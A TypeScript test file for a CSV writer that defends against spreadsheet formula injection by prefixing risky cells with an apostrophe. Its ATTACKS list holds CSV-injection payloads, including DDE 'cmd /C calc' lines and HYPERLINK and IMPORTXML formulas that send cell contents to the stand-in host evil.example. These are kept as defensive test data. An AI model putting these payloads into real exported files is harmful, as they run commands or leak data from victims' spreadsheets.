import { fc, test } from '@fast-check/vitest'
import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { neutraliseCell, restoreCell, writeCsv } from './write-csv.js'

// Cells that spreadsheets run as formulas or commands (OWASP "CSV injection" corpus and friends).
const ATTACKS = [
  '=1+1',
  '=SUM(A1:A9)',
  "=cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "+2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"Spausti")',
  '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
  '\t=1+1',
  '\r=1+1',
  '-',
  '+',
  '@',
  '=',
  '-1+1',
  '- 3',
  '-3.50e2',
  "'=1+1",
  "''-2+3",
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
]

describe('writeCsv', () => {
  it('writes rows with ; by default, CRLF after every row, quoting only where needed', () => {
    expect(
      writeCsv([
        ['Savivaldybė', 'Suma', 'Pastaba'],
        ['Šiaulių m. sav.', '2600.00', 'a;b'],
        ['"Kabutės"', 12, null],
        ['eilutė\nnauja', ' tarpas', ''],
      ]),
    ).toBe(
      'Savivaldybė;Suma;Pastaba\r\nŠiaulių m. sav.;2600.00;"a;b"\r\n"""Kabutės""";12;\r\n"eilutė\nnauja";" tarpas";\r\n',
    )
  })

  it('writes , and a BOM on request; no rows is an empty file', () => {
    expect(writeCsv([['a;b', 'c,d']], { separator: ',', bom: true })).toBe('\uFEFFa;b,"c,d"\r\n')
    expect(writeCsv([])).toBe('')
    expect(writeCsv([], { bom: true })).toBe('\uFEFF')
  })

  it.each(ATTACKS)('neutralises the formula %j with one leading apostrophe', (attack) => {
    const written = writeCsv([[attack]])
    const cell = Papa.parse<string[]>(written, { delimiter: ';' }).data[0]?.[0] ?? ''
    expect(cell.startsWith("'")).toBe(true)
    expect(cell).toBe(`'${attack}`)
  })

  it('leaves plain decimal numbers (text or number) and harmless text as they are', () => {
    for (const value of ['-3.50', '-3,50', '12', '0', '-0.01', 'Šiauliai', "'citata'", '2024-01-30'])
      expect(writeCsv([[value]])).toBe(`${value}\r\n`)
    expect(writeCsv([[-3.5, 0, 41163]])).toBe('-3.5;0;41163\r\n')
  })

  it('refuses a non-finite number and an unknown separator (bugs in the caller)', () => {
    expect(() => writeCsv([[Number.NaN]])).toThrow(RangeError)
    expect(() => writeCsv([[Number.POSITIVE_INFINITY]])).toThrow(RangeError)
    expect(() => writeCsv([['a']], { separator: '\t' as ';' })).toThrow(RangeError)
  })
})

describe('neutraliseCell / restoreCell', () => {
  it('add and remove exactly one apostrophe', () => {
    expect(neutraliseCell("-2+3+cmd|' /C calc'!A0")).toBe("'-2+3+cmd|' /C calc'!A0")
    expect(neutraliseCell("'=x")).toBe("''=x")
    expect(restoreCell("''=x")).toBe("'=x")
    expect(restoreCell("'tekstas")).toBe("'tekstas")
    expect(restoreCell('-3.50')).toBe('-3.50')
  })
})

const cellArb = fc.oneof(
  fc.string({
    unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', "'", '"', ';', ',', ' ', 'a', 'ė', '1', '.'),
  }),
  fc.string(),
)

describe('properties', () => {
  test.prop([cellArb])('no written text cell starts like a formula', (text) => {
    const written = neutraliseCell(text)
    const formula = /^[=+\-@\t\r]/.test(written)
    expect(formula && !/^-?\d+(?:[.,]\d+)?$/.test(written)).toBe(false)
  })

  test.prop([cellArb])('restoreCell undoes neutraliseCell', (text) => {
    expect(restoreCell(neutraliseCell(text))).toBe(text)
  })

  test.prop([
    fc.array(fc.array(cellArb, { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 8 }),
    fc.constantFrom(';' as const, ',' as const),
  ])('papaparse reads back every row and cell (then restoreCell gives the text)', (rows, separator) => {
    // A row of one empty cell is an empty line, which papaparse reads as no cells.
    fc.pre(rows.every((row) => row.length > 1 || row[0] !== ''))
    const written = writeCsv(rows, { separator })
    const read = Papa.parse<string[]>(written.slice(0, -2), { delimiter: separator, newline: '\r\n' }).data
    expect(read.map((row) => row.map(restoreCell))).toEqual(rows)
  })
})
